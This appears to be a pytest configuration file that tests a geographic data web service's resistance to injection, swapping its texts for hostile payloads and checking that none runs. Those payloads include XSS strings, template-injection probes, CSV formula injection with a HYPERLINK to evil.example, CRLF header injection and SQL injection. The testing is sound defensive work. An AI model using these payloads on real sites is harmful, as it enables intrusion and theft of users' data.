"""Running services over the sample and over a result in which every text attacks its reader."""

from __future__ import annotations

import copy
import dataclasses
import itertools
import json
import logging
import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import brotli
import pytest
from werkzeug.serving import make_server

from geo_service.core.i18n import Text
from geo_service.core.result import Anomalies, Anomaly, Provenance, Result
from geo_service.store import save_result
from geo_service.web import create_app

IMAGE = "<img src=x onerror=window.pwned=1>"
SCRIPT = "</script><script>window.pwned=1</script>"
PRODUCT = "{{7331*1337}}${7331*1337}#{7331*1337}<%=7331*1337%>"
"""A template engine that took it for its own would say 9801547."""
ATTACKS = (
    f"=cmd|'/c calc'!A1{IMAGE}",
    f"{SCRIPT}<svg onload=window.pwned=1>",
    f"\" autofocus onfocus=window.pwned=1 x=\"' onmouseover='window.pwned=1 {PRODUCT}",
    f"\u202e{IMAGE}\u2066\u200f\u2028\u2029\ufeff]]><!--<script>",
    f"@SUM(1+1)*cmd{IMAGE}\r\nSet-Cookie: pwned=1\r\n\r\n",
    f"+1+1\x00\x01\x07\x1b[31m\x7f\x85{SCRIPT}",
    f"-2+3+cmd|' /C calc'!A0`${{window.pwned=1}}`{PRODUCT}",
    f'\t=HYPERLINK("http://evil.example/?x="&A1){IMAGE}',
    "javascript:window.pwned=1//'\"><base href=http://evil.example/>",
    f"{IMAGE}" + "é\u0301" * 2000 + "W" * 2000,
    '\\";window.pwned=1;//</textarea></title></style><style>*{background:url(//evil.example)}',
    f"😀𝒳\U000e0041{SCRIPT}",
)
"""Each is put before or in place of texts of the result."""
CODES = (
    "",
    '"><img src=x onerror=window.pwned=1>',
    "'>{{7331*1337}}<svg\u000bonload=window.pwned=1>",
    "?as_of=x&lang=xx#y{{7331*1337}}",
    "\u202e=cmd|' calc'!A1",
    ";DROP TABLE structures--%00%2f..",
)
"""What follows a code; the first leaves it as it is, none holds the slash that ends an address."""
_CODED = re.compile(
    r"^(?P<head>(?:commune|epci|departement|region|qpv|zonage):)?(?P<code>[0-9A-Z]{2,14})"
    r"(?P<tail>-\d+m)?$"
)

collect_ignore = ["ogc_qgis.py"]
"""Run by the Python that has QGIS, not by ours."""
_KEYS = re.compile(
    r"structure_id|finess|finess_ej|siret|zone_id|code|communes?|epci|departement|region|qpv"
    r"|territory|record"
)
"""Columns whose values name a row elsewhere: the same code becomes the same everywhere."""
_CHOSEN = re.compile(
    r"kind|category|position|geocoder|open|in_qpv|near_\w+|zone_class|zonage|zone_kind|repair"
    r"|indicator|scope|definition|unit|outcome|series|class_label|class_label_en"
)
"""Columns of a few known words: one row in seven has an unknown one."""
_OWN = ("source", "layout", "vintage_basis")
"""Names of this package's readers and literals of its types: no file gives them."""


def _code(value: str) -> str:
    found = _CODED.match(value)
    if found is None:
        return value
    ending = CODES[(sum(map(ord, found["code"])) + 1) % len(CODES)]
    return f"{found['head'] or ''}{found['code']}{ending}{found['tail'] or ''}"


def _attacked(table: Any) -> Any:
    """The table with every text replaced."""
    table = table.copy()
    for place, column in enumerate(table.columns):
        if str(table[column].dtype) not in ("str", "object") or column == "level":
            continue
        old = table[column].astype("object").where(table[column].notna(), None)
        if _KEYS.fullmatch(column):
            new = [None if it is None else " ".join(map(_code, it.split())) for it in old]
        elif _CHOSEN.fullmatch(column):
            # This package's own words; as attributes of a page they hold no control characters.
            attacks = [re.sub(r"[\x00-\x1f]", "", text) for text in ATTACKS]
            new = [
                attacks[row % len(attacks)] if row % 7 == 3 and it is not None else it
                for row, it in enumerate(old)
            ]
        else:
            new = [
                f"{ATTACKS[(row + place) % len(ATTACKS)]}{it or ''}" if row % 11 != 10 else it
                for row, it in enumerate(old)
            ]
        table[column] = new
        table[column] = table[column].astype("str")
    return table


def _attacked_record(record: Any, number: int, kept: tuple[str, ...]) -> Any:
    """A record of texts with every text replaced."""
    new: dict[str, Any] = {}
    for place, field in enumerate(dataclasses.fields(record)):
        value = getattr(record, field.name)
        attack = ATTACKS[(number + place) % len(ATTACKS)]
        if field.name in kept:
            continue
        if isinstance(value, Text) or field.name == "note":
            new[field.name] = Text(f"{attack} fr", f"{attack} en")
        elif isinstance(value, str) or field.name in ("publisher", "title", "licence", "member"):
            new[field.name] = f"{attack}{value or ''}"
    return dataclasses.replace(record, **new)


def make_hostile(result: Result) -> Result:
    """The result with every text of it replaced by an attack, codes alike wherever they stand."""
    hostile = copy.copy(result)
    hostile.layers = {name: _attacked(table) for name, table in result.layers.items()}
    hostile.tables = {name: _attacked(table) for name, table in result.tables.items()}
    hostile.figures = _attacked(result.indicators)
    hostile.anomalies = Anomalies(
        _anomaly(one, number) for number, one in enumerate(result.anomalies)
    )
    hostile.provenance = [_source(one, number) for number, one in enumerate(result.provenance)]
    attack = "".join(ATTACKS[:9])
    hostile.facts = {
        **result.facts,
        "name": f"{attack} {result.facts['name']}",
        "territory": _code(result.facts["territory"]),
        "territory_name": f"{attack} {result.facts['territory_name']}",
        "scope": ATTACKS[1],
        "kinds": [*result.facts["kinds"], ATTACKS[0], ATTACKS[5]],
        "code_version": ATTACKS[3],
    }
    return hostile


def _anomaly(one: Anomaly, number: int) -> Anomaly:
    new: Anomaly = _attacked_record(one, number, ("source", "outcome"))
    return dataclasses.replace(new, record=one.record and _code(one.record))


def _source(one: Provenance, number: int) -> Provenance:
    new: Provenance = _attacked_record(one, number, _OWN)
    addresses = ("javascript:window.pwned=1", 'https://x.example/"><img src=x onerror=pwned=1>')
    return dataclasses.replace(new, url=addresses[number % 2])


@contextmanager
def running(path: Path) -> Iterator[str]:
    """A service over a result, on this machine alone; its address."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GEO_SERVICE_RATE", "off")
        server = make_server("127.0.0.1", 0, create_app(path), threaded=True)
    logging.getLogger("werkzeug").setLevel(logging.WARNING)  # a line a request buries a failure
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture(scope="session")
def hostile_result(sample_result: Result) -> Result:
    """The sample's result in which every text attacks its reader."""
    return make_hostile(sample_result)


@pytest.fixture(scope="session")
def hostile_file(hostile_result: Result, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile result as a stored file."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.gpkg"
    save_result(hostile_result, path)
    return path


@pytest.fixture(scope="session")
def service(sample_file: Path) -> Iterator[str]:
    """Address of a running service over the sample."""
    with running(sample_file) as address:
        yield address


@pytest.fixture(scope="session")
def hostile_service(hostile_file: Path) -> Iterator[str]:
    """Address of a running service over the hostile result."""
    with running(hostile_file) as address:
        yield address


@pytest.fixture
def recode() -> Callable[[str], str]:
    """What became of a code of the sample in the hostile result."""
    return _code


class Visit:
    """One tab of a browser: what it asked for, and all that went wrong in it."""

    def __init__(self, page: Any, address: str) -> None:
        self.page = page
        self.address = address
        self.wrong: list[str] = []
        page.set_default_timeout(20_000)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        page.on("crash", lambda _: self.wrong.append("the page crashed"))
        page.on("dialog", self._dialog)
        page.on("request", self._request)

    def _console(self, said: Any) -> None:
        # A page that is itself a 404 says so in the console; what it needs may not be missing.
        if said.type in ("error", "warning") and said.location["url"] != self.page.url:
            self.wrong.append(f"{said.type}: {said.text} ({said.location['url'][:200]})")
        elif said.type in ("error", "warning") and "status of 4" not in said.text:
            self.wrong.append(f"{said.type}: {said.text}")

    def _dialog(self, dialog: Any) -> None:
        self.wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if not request.url.startswith((self.address, "data:", "blob:", "about:")):
            self.wrong.append(f"asked another host: {request.url[:200]}")

    def open(self, path: str) -> Any:
        """Go to a page of the service; a map is waited for."""
        answer = self.page.goto(self.address + path)
        if path.startswith("/carte"):
            self.page.wait_for_selector("#stage[data-ready]")
        return answer


@pytest.fixture(scope="session")
def _refusing(chromium: Any) -> Iterator[Any]:
    """A browser context that reaches this machine alone."""
    context = chromium.new_context(
        locale="fr-FR", viewport={"width": 1280, "height": 900}, reduced_motion="reduce"
    )
    elsewhere = re.compile(r"^(?!http://127\.0\.0\.1:|data:|blob:|about:)")
    context.route(elsewhere, lambda route: route.abort())
    yield context
    context.close()


@pytest.fixture
def visit(_refusing: Any, service: str) -> Iterator[Visit]:
    """A tab on the service over the sample."""
    tab = Visit(_refusing.new_page(), service)
    yield tab
    tab.page.close()


@pytest.fixture
def hostile_visit(_refusing: Any, hostile_service: str) -> Iterator[Visit]:
    """A tab on the service over the hostile result."""
    tab = Visit(_refusing.new_page(), hostile_service)
    yield tab
    tab.page.close()


_HOST = "http://localhost"
_OUTSIDE = {"leafletjs.com", "spec.openapis.org", "www.opengis.net"}
"""Hosts that pages name by themselves."""
_RUN = "9801547"  # what a template engine would make of the product that stands in the texts
_FORBIDDEN = {"base", "object", "embed", "applet", "meta-refresh", "img"}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "ping"}


class Inspected(HTMLParser):
    """What a page holds that could run, and where it leads."""

    def __init__(self, page: str, styled: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.links: set[str] = set()
        self.outside: set[str] = set()
        self._styled = styled
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        told = f"<{tag} {str(given)[:200]}>"
        own = tag == "script" and ("src" in given or given.get("type") == "application/json")
        inline = tag in ("script", "style") and not own and not self._styled
        if inline or tag in _FORBIDDEN or "http-equiv" in given:
            self.bad.append(told)
        for name, value in given.items():
            if name.startswith("on") or (name == "style" and not self._styled):
                self.bad.append(told)
            if name in _ADDRESSES:
                scheme = urlsplit(value.strip().lower()).scheme
                if scheme not in ("", "http", "https", "mailto") or value.startswith("//"):
                    self.bad.append(told)
                elif scheme:
                    self.outside.add(urlsplit(value).netloc)
                elif tag != "form" and name in ("href", "src"):
                    self.links.add(value.partition("#")[0])


class Visitor:
    """A client from another address each time, so that no limit of requests stops the tests."""

    def __init__(self, path: Path) -> None:
        self.app = create_app(path)
        self._client = self.app.test_client()
        self._number = itertools.count(1)

    def ask(self, address: str, method: str = "GET", **more: Any) -> Any:
        number = next(self._number)
        environ = {
            "REMOTE_ADDR": f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}",
            **more.pop("environ", {}),
        }
        return self._client.open(
            address, method=method, environ_overrides=environ, buffered=True, **more
        )

    def endpoint(self, address: str) -> str:
        """Endpoint of an address; empty where there is none."""
        adapter = self.app.url_map.bind("localhost")
        try:
            return str(adapter.match(urlsplit(urljoin(_HOST, address)).path)[0])
        except Exception:  # a redirect, or nothing there
            return ""

    def address(self, endpoint: str, **values: Any) -> str:
        with self.app.test_request_context():
            from flask import url_for

            return url_for(endpoint, **values)

    def check(self, answer: Any, address: str) -> set[str]:
        """Fail if an answer could run anything; gives the addresses that it names."""
        assert answer.status_code < 500, address
        body = answer.get_data()
        if answer.headers.get("Content-Encoding") == "br":
            body = brotli.decompress(body)
        assert _RUN.encode() not in body, address
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "unsafe" not in answer.headers["Content-Security-Policy"]
        for name, value in answer.headers.items():
            assert "\r" not in value, (address, name)
            assert "\n" not in value, (address, name)
            assert "pwned" not in name.lower(), address
        if answer.mimetype == "text/html":
            policy = answer.headers["Content-Security-Policy"]
            found = Inspected(body.decode(), styled="'sha256-" in policy)
            assert found.bad == [], address
            assert found.outside - _OUTSIDE - {"localhost"} == set(), address
            return found.links
        if answer.mimetype.endswith("json"):
            return set(_named(json.loads(body)))
        return set()


def _named(value: Any) -> Iterator[str]:
    """Addresses in JSON, as programs would follow them."""
    if isinstance(value, dict):
        for name, member in value.items():
            if name in ("href", "url", "@id", "link") and isinstance(member, str):
                if not member.startswith(("javascript:", "https://x.example")):  # a source's own
                    yield member
            else:
                yield from _named(member)
    elif isinstance(value, list):
        for member in value:
            yield from _named(member)


@pytest.fixture(scope="session")
def hostile(hostile_file: Path) -> Visitor:
    """A visitor of the hostile result, without a network."""
    return Visitor(hostile_file)


@pytest.fixture(scope="session")
def plain(sample_file: Path) -> Visitor:
    """A visitor of the sample, without a network."""
    return Visitor(sample_file)


@pytest.fixture(scope="session")
def visitor_of() -> type[Visitor]:
    """Makes a visitor of a result of one's own."""
    return Visitor
